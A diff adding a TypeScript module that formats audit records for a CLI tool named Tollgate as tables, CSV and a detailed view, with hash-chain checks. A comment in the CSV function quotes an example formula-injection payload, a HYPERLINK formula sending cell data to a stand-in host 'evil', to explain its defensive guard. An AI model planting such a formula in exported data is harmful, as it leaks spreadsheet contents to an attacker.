@@ -1,0 +1,304 @@
+/**
+ * What `tollgate audit` prints: times read from the command line, the table for terminals, CSV (RFC 4180,
+ * guarded against formula injection), JSON lines, and one record in full for `show`. Pure functions: the
+ * commands (audit.ts) decide where the text goes.
+ */
+
+import { type AuditRecord, GENESIS } from '../shared/audit/record.js';
+import type { Violation } from '../shared/decision/record.js';
+import { SEVERITIES } from '../shared/findings/finding.js';
+
+/** A command-line value that cannot be used; the message is printed as `tollgate: <message>`. */
+export class AuditUsageError extends Error {
+  constructor(message: string) {
+    super(message);
+    this.name = 'AuditUsageError';
+  }
+}
+
+// ── times ─────────────────────────────────────────────────────────────────────────────────────────
+
+const UNIT_MS: Readonly<Record<string, number>> = {
+  s: 1_000,
+  m: 60_000,
+  h: 3_600_000,
+  d: 86_400_000,
+  w: 7 * 86_400_000,
+};
+
+const ISO = /^\d{4}-\d{2}-\d{2}(T\d{2}:\d{2}(:\d{2}(\.\d+)?)?(Z|[+-]\d{2}:?\d{2}))?$/;
+
+/**
+ * `--since` / `--until`: an ISO-8601 date (`2026-11-01`, UTC), a timestamp with a zone
+ * (`2026-11-01T12:00:00Z`, `2026-11-01T14:00:00+02:00`), or a time ago (`90m`, `12h`, `30d`, `2w`, `45s`).
+ * A timestamp without a zone is refused: an audit range is never guessed from the local zone. The range is
+ * half-open, [since, until), as the store reads it; a date alone covers its whole day, so as `--until` it is
+ * the next day's first instant (`--since 2026-11-01 --until 2026-11-30` is all of November).
+ */
+export function parseTime(value: string, now: Date, bound: 'since' | 'until'): Date {
+  const relative = /^(\d+)([smhdw])$/.exec(value.trim());
+  if (relative) return new Date(now.getTime() - Number(relative[1]) * UNIT_MS[relative[2]!]!);
+  const dateOnly = /^\d{4}-\d{2}-\d{2}$/.test(value);
+  const ms = Date.parse(dateOnly ? `${value}T00:00:00Z` : value);
+  if (!ISO.test(value) || Number.isNaN(ms)) {
+    throw new AuditUsageError(
+      `--${bound} ${JSON.stringify(value)}: expected an ISO-8601 date (2026-11-01), a timestamp with a zone (2026-11-01T12:00:00Z) or a time ago (90m, 12h, 30d, 2w)`,
+    );
+  }
+  return new Date(dateOnly && bound === 'until' ? ms + 86_400_000 : ms);
+}
+
+/** `2026-11-25T09:00:40Z`: seconds are enough in a table (the JSON, CSV and `show` keep the stored time). */
+function shortTime(iso: string): string {
+  return iso.replace(/\.\d+Z$/, 'Z');
+}
+
+// ── one line of text per record ──────────────────────────────────────────────────────────────────
+
+/** The image as people write it: `payments/api@sha256:3f9a1c0d8e2b` (digest cut), with the first tag. */
+export function imageText(record: AuditRecord, full = false): string {
+  const image = record.image;
+  if (!image) return '';
+  const repository = image.repository ?? '?';
+  const digest = image.digest ? (full ? image.digest : image.digest.slice(0, 19)) : '';
+  const tag = image.tags[0];
+  if (!digest) return tag ? `${repository}:${tag}` : repository;
+  return `${repository}@${digest}${tag && !full ? ` (${tag})` : ''}`;
+}
+
+/** An IAM/STS ARN cut to its resource (`assumed-role/SecurityEngineer/alice`): tables are for reading. */
+function shortActor(actor: string): string {
+  const m = /^arn:aws[\w-]*:(?:sts|iam)::\d*:(.+)$/.exec(actor);
+  return m ? m[1]! : actor;
+}
+
+/** What happened, in a line: the decision's summary, the action sent, or the person's resolution. */
+export function describeRecord(record: AuditRecord): string {
+  if (record.type === 'action' && record.action) {
+    const a = record.action;
+    if (a.kind === 'escalation') return `escalation sent${a.subject ? `: ${a.subject}` : ''}`;
+    return `sent ${a.status ?? 'result'}${a.answer ? ` (${a.answer})` : ''}`;
+  }
+  if (record.type === 'resolution' && record.resolution) {
+    const r = record.resolution;
+    const who = r.reviewer ? ` by ${r.byTollgate ? 'Tollgate' : shortActor(r.reviewer)}` : '';
+    const what = [r.state, r.status].filter((x) => x !== null).join(' · ') || 'resolved';
+    const said = r.summary ?? record.summary;
+    return `${what}${who}${said ? `: ${said}` : ''}`;
+  }
+  return record.summary ?? '';
+}
+
+/** One line, at most `max` characters: line breaks folded, the rest cut with `…`. */
+export function cut(text: string, max: number): string {
+  const line = text.replace(/\s*[\r\n]+\s*/g, ' ');
+  return line.length <= max ? line : `${line.slice(0, max - 1)}…`;
+}
+
+// ── table ─────────────────────────────────────────────────────────────────────────────────────────
+
+export const SUMMARY_WIDTH = 72;
+
+/** Aligned columns for a terminal; the summary is cut to SUMMARY_WIDTH (`show` has it whole). */
+export function renderTable(records: readonly AuditRecord[]): string {
+  const header = ['TIME', 'RECORD', 'TYPE', 'OUTCOME', 'IMAGE', 'BY', 'SUMMARY'];
+  const rows = records.map((r) => [
+    shortTime(r.time),
+    `${r.pipeline}#${r.seq}`,
+    r.type,
+    r.outcome ?? '-',
+    imageText(r) || '-',
+    shortActor(r.resolution?.reviewer ?? r.actor),
+    cut(describeRecord(r), SUMMARY_WIDTH),
+  ]);
+  const widths = header.map((h, i) => Math.max(h.length, ...rows.map((row) => row[i]!.length)));
+  const line = (cells: readonly string[]) =>
+    cells
+      .map((c, i) => (i === cells.length - 1 ? c : c.padEnd(widths[i]!)))
+      .join('  ')
+      .trimEnd();
+  return `${[line(header), ...rows.map(line)].join('\n')}\n`;
+}
+
+// ── CSV ───────────────────────────────────────────────────────────────────────────────────────────
+
+/** The CSV columns, in this order, always: scripts and spreadsheets address them by position too. */
+export const CSV_COLUMNS = [
+  'time',
+  'pipeline',
+  'seq',
+  'type',
+  'executionId',
+  'stage',
+  'action',
+  'repository',
+  'digest',
+  'tags',
+  'outcome',
+  'actor',
+  'reviewer',
+  'policy',
+  'policySha256',
+  'violations',
+  'vulnerabilities',
+  'summary',
+] as const;
+
+/**
+ * One CSV field (RFC 4180): quoted when it holds a quote, a comma or a line break, quotes doubled.
+ *
+ * A field starting with `=`, `+`, `-`, `@` (or a tab or carriage return) is prefixed with `'`. Spreadsheets
+ * (Excel, LibreOffice, Google Sheets) evaluate such a cell as a formula when the file is opened, and much of
+ * what a record holds is written by others: the summary a reviewer typed into the approval, the image's
+ * tags and repository name, a rule's description. A value such as `=HYPERLINK("https://evil/?"&A1)` or a
+ * DDE payload would otherwise run in the auditor's spreadsheet (CSV/formula injection, OWASP). The `'` makes
+ * the cell plain text and shows what was stored; numbers this module writes (`seq`) never start with `-`.
+ */
+export function csvField(value: string): string {
+  const guarded = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
+  return /[",\r\n]/.test(guarded) ? `"${guarded.replaceAll('"', '""')}"` : guarded;
+}
+
+/** CRLF line ends, as RFC 4180 says. */
+export function csvLine(values: readonly string[]): string {
+  return `${values.map(csvField).join(',')}\r\n`;
+}
+
+export function csvHeader(): string {
+  return csvLine(CSV_COLUMNS);
+}
+
+/** Lists inside a field are space-separated (ids and tags hold no spaces). */
+export function csvRow(r: AuditRecord): string {
+  const values: Record<(typeof CSV_COLUMNS)[number], string> = {
+    time: r.time,
+    pipeline: r.pipeline,
+    seq: String(r.seq),
+    type: r.type,
+    executionId: r.gate.executionId,
+    stage: r.gate.stage,
+    action: r.gate.action,
+    repository: r.image?.repository ?? '',
+    digest: r.image?.digest ?? '',
+    tags: (r.image?.tags ?? []).join(' '),
+    outcome: r.outcome ?? '',
+    actor: r.actor,
+    reviewer: r.resolution?.reviewer ?? '',
+    policy: r.policy?.name ?? '',
+    policySha256: r.policy?.sha256 ?? '',
+    violations: r.violations.map((v) => v.rule).join(' '),
+    vulnerabilities: r.vulnerabilities.join(' '),
+    // A resolution's own words are the reviewer's; its record's summary repeats the decision's.
+    summary: (r.type === 'resolution' ? r.resolution?.summary : null) ?? r.summary ?? '',
+  };
+  return csvLine(CSV_COLUMNS.map((c) => values[c]));
+}
+
+// ── show ──────────────────────────────────────────────────────────────────────────────────────────
+
+export interface HashCheck {
+  /** The SHA-256 of the record's canonical form, recomputed now. */
+  readonly computed: string;
+  /** The previous record's stored hash (null: not found; ignored for seq 1; undefined: not checked). */
+  readonly previous: string | null | undefined;
+}
+
+function violationLines(label: string, list: readonly Violation[]): string[] {
+  if (list.length === 0) return [`  ${label.padEnd(16)}none`];
+  const width = Math.max(...list.map((v) => v.rule.length));
+  return list.map((v, i) => {
+    const ids = v.findings.length > 0 ? `: ${v.findings.join(', ')}` : '';
+    const head = `${v.rule.padEnd(width)}  ${v.action.padEnd(8)} ${v.count} matching (allow ${v.allow})${ids}`;
+    const description = v.description ? `\n  ${''.padEnd(16)}${''.padEnd(width)}  ${v.description}` : '';
+    return `  ${(i === 0 ? label : '').padEnd(16)}${head}${description}`;
+  });
+}
+
+/** The whole record, readable: every field `--format json` has, in an order a person reads. */
+export function renderShow(r: AuditRecord, check: HashCheck): string {
+  const out: string[] = [];
+  const row = (label: string, value: string) => out.push(`  ${label.padEnd(16)}${value}`);
+  out.push(`${r.pipeline}#${r.seq}  ${r.type}  ${r.time}`);
+  row('gate', `${r.gate.pipeline} / ${r.gate.stage} / ${r.gate.action}`);
+  row('execution', r.gate.executionId);
+  row('actor', r.actor);
+  if (r.image) {
+    row('image', `${r.image.repository ?? '(repository unknown)'}`);
+    row('digest', r.image.digest ?? '(unknown)');
+    row('tags', r.image.tags.length > 0 ? r.image.tags.join(', ') : 'none');
+  } else {
+    row('image', 'none');
+  }
+  row('outcome', r.outcome ?? '-');
+  for (const [i, line] of (r.summary ?? '-').split('\n').entries()) row(i === 0 ? 'summary' : '', line);
+
+  if (r.type === 'decision' || r.violations.length > 0 || r.warnings.length > 0) {
+    out.push(...violationLines('violations', r.violations));
+    out.push(...violationLines('warnings', r.warnings));
+  }
+  if (r.exceptions) {
+    const e = r.exceptions;
+    const states: [string, readonly string[]][] = [
+      ['applied', e.applied],
+      ['expiring soon', e.expiringSoon],
+      ['expired', e.expired],
+      ['revoked', e.revoked],
+      ['unused', e.unused],
+    ];
+    const any = states.some(([, ids]) => ids.length > 0);
+    if (!any) row('exceptions', 'none');
+    for (const [i, [state, ids]] of states.filter(([, ids]) => ids.length > 0).entries()) {
+      row(i === 0 ? 'exceptions' : '', `${state.padEnd(14)} ${ids.join(', ')}`);
+    }
+  }
+  if (r.counts) {
+    const counts = r.counts;
+    row('counts', SEVERITIES.map((s) => `${s} ${counts[s] ?? 0}`).join('  '));
+  }
+  if (r.policy) row('policy', `${r.policy.name}  sha256 ${r.policy.sha256}`);
+  if (r.type === 'decision' || r.vulnerabilities.length > 0) {
+    const n = r.vulnerabilities.length;
+    row(
+      'vulnerabilities',
+      n === 0 ? 'none' : `${n}${r.vulnerabilitiesTruncated ? ' (truncated: the decision saw more)' : ''}`,
+    );
+    for (let i = 0; i < n; i += 6) row('', r.vulnerabilities.slice(i, i + 6).join(', '));
+  }
+  if (r.action) {
+    const a = r.action;
+    if (a.kind === 'escalation') row('action', `escalation sent${a.subject ? `: ${a.subject}` : ''}`);
+    else row('action', `approval result ${a.status ?? '?'} sent to CodePipeline; answer ${a.answer ?? '?'}`);
+  }
+  if (r.resolution) {
+    const s = r.resolution;
+    row('resolution', s.state ?? '(the action has not ended yet)');
+    row('reviewer', s.reviewer ? `${s.reviewer}${s.byTollgate ? ' (Tollgate itself)' : ''}` : 'none seen');
+    if (s.status) row('status', s.status);
+    if (s.summary) for (const [i, line] of s.summary.split('\n').entries()) row(i === 0 ? 'said' : '', line);
+  }
+  out.push('');
+  out.push('chain');
+  row('position', `record ${r.seq} of pipeline ${r.pipeline}`);
+  row('prevHash', r.prevHash);
+  if (check.previous !== undefined) {
+    const before = r.seq - 1;
+    let verdict: string;
+    if (r.seq === 1) {
+      verdict =
+        r.prevHash === GENESIS
+          ? '✓ the genesis hash: the chain starts here'
+          : '✗ record 1 must chain to the genesis hash';
+    } else if (check.previous === null) {
+      verdict = `✗ record ${before} is missing`;
+    } else {
+      verdict =
+        check.previous === r.prevHash
+          ? `✓ matches record ${before}`
+          : `✗ record ${before} has hash ${check.previous}`;
+    }
+    row('', verdict);
+  }
+  row('hash', r.hash);
+  row('', check.computed === r.hash ? '✓ matches the content' : `✗ the content hashes to ${check.computed}`);
+  return `${out.join('\n')}\n`;
+}
